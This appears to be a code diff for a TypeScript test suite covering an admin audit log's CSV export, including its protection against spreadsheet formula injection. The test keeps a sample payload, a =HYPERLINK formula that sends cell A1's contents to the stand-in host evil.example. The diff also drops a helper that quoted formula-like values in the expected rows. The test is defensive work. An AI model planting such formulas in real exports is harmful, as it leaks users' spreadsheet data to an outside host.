@@ -14,11 +14,6 @@ const SMALL = { width: 256, height: 256, steps: 4 };
 /** A prompt a spreadsheet would run as a formula if a cell began with it. */
 const FORMULA_PROMPT = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
 
-/** A cell as the export writes it: one starting like a formula gets a quote in front (ids may start with "-"). */
-function asCell(value: string): string {
-  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
-}
-
 /** The rows of a CSV text (RFC 4180: quoted cells may hold commas, quotes and line breaks). */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [];
@@ -267,13 +262,13 @@ describeServer('audit: 审计日志 for admins — filters, pages, CSV export an
       `${local}+08:00`,
       '提交生成',
       'generation.submit',
-      asCell(other.userId),
+      other.userId,
       masked(other.mobile),
       '用户',
       '',
       '127.0.0.1',
       'generation',
-      asCell(submit.body.data.generateId),
+      submit.body.data.generateId,
     ]);
     expect(JSON.parse(submitted[10]!)).toMatchObject({ prompt: expect.stringContaining(FORMULA_PROMPT) });
     expect(byCode('auth.login')[7]).toBe("'@SUM(1+1)");
